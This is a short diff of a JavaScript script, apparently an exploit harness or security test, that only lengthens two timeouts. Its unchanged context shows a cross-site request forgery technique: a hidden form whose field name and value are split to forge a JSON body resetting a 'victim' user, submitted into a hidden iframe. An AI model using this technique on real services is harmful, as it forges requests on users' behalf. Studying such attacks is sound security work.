@@ -29,7 +29,7 @@ const read = [];
 const reset = JSON.stringify({ domain: 'edge', descriptor: [{ key: 'user', value: 'victim' }] });
 const ask = async (path, options) => {
   try {
-    const response = await fetch(base + path, { ...options, signal: AbortSignal.timeout(3000) });
+    const response = await fetch(base + path, { ...options, signal: AbortSignal.timeout(30000) });
     const reader = response.body?.getReader();
     const first = reader && await reader.read();
     const text = first?.value ? new TextDecoder().decode(first.value) : '';
@@ -71,7 +71,7 @@ Object.assign(field, { name: reset.slice(0, -1) + ',\"x', value: '\":1}' });
 form.append(field);
 const sink = Object.assign(document.createElement('iframe'), { name: 'sink' });
 document.body.append(sink, form);
-await new Promise((done) => { sink.onload = done; form.submit(); setTimeout(done, 3000); });
+await new Promise((done) => { sink.onload = done; form.submit(); setTimeout(done, 30000); });
 return JSON.stringify(read);
 ";
 
